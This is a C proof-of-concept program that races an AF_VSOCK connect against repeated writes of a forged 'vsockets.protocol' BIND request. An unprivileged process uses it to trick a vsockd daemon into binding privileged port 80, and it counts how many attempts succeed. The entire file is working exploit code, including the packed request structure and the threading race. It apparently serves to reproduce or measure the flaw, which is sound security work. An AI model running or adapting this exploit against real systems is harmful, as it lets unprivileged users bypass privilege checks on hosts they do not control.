/* One thread connects a socket to an unused port, while another writes to the same socket.
 *
 *     interjects ATTEMPTS     prints in how many of them the bytes written have bound port 80
 *
 * It drops its privileges first.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <grp.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

/* vsockets.protocol: a BIND of port 80. */
static struct {
    uint32_t magic;
    uint16_t op, flags;
    uint32_t local_cid, local_port, peer_cid, peer_port;
    uint64_t backlog, size, minimum, maximum, cookie, inode;
} __attribute__((packed)) request = {0x76736b01, 1, 0, 0xFFFFFFFF, 80, 0, 0, 0, 65536, 128, 262144};

struct address {
    uint16_t family, reserved;
    uint32_t port, cid;
    uint8_t zero[4];
};

static volatile int fd, over;

static void *interject(void *unused)
{
    /* Fails until the socket is connected; then a few requests are enough for vsockd. */
    for (int written = 0; !over && written < 20;)
        written += write(fd, &request, sizeof request) > 0;
    return NULL;
}

static int attempt(void)
{
    struct address nobody = {40, 0, 9, 2};
    struct {
        uint32_t magic;
        uint16_t status;
        char rest[58];
    } answer; /* a record of vsockets.protocol */
    int outcome;
    pthread_t thread;
    over = 0;
    fd = socket(40, SOCK_STREAM, 0);
    pthread_create(&thread, NULL, interject, NULL);
    /* Succeeds if the reply is that to the bytes written. */
    outcome = connect(fd, (struct sockaddr *)&nobody, sizeof nobody) == 0;
    over = 1;
    pthread_join(thread, NULL);
    while (recv(fd, &answer, sizeof answer, MSG_DONTWAIT) == sizeof answer)
        outcome |= answer.status == 0;
    close(fd);
    return outcome;
}

int main(int argc, char **argv)
{
    int bound = 0, attempts = atoi(argv[1]);
    signal(SIGPIPE, SIG_IGN);
    if (setgroups(0, NULL) || setgid(65534) || setuid(65534))
        perror("dropping rights");
    for (int number = 0; number < attempts; number++)
        bound += attempt();
    printf("%d of %d have port 80\n", bound, attempts);
    return 0;
}
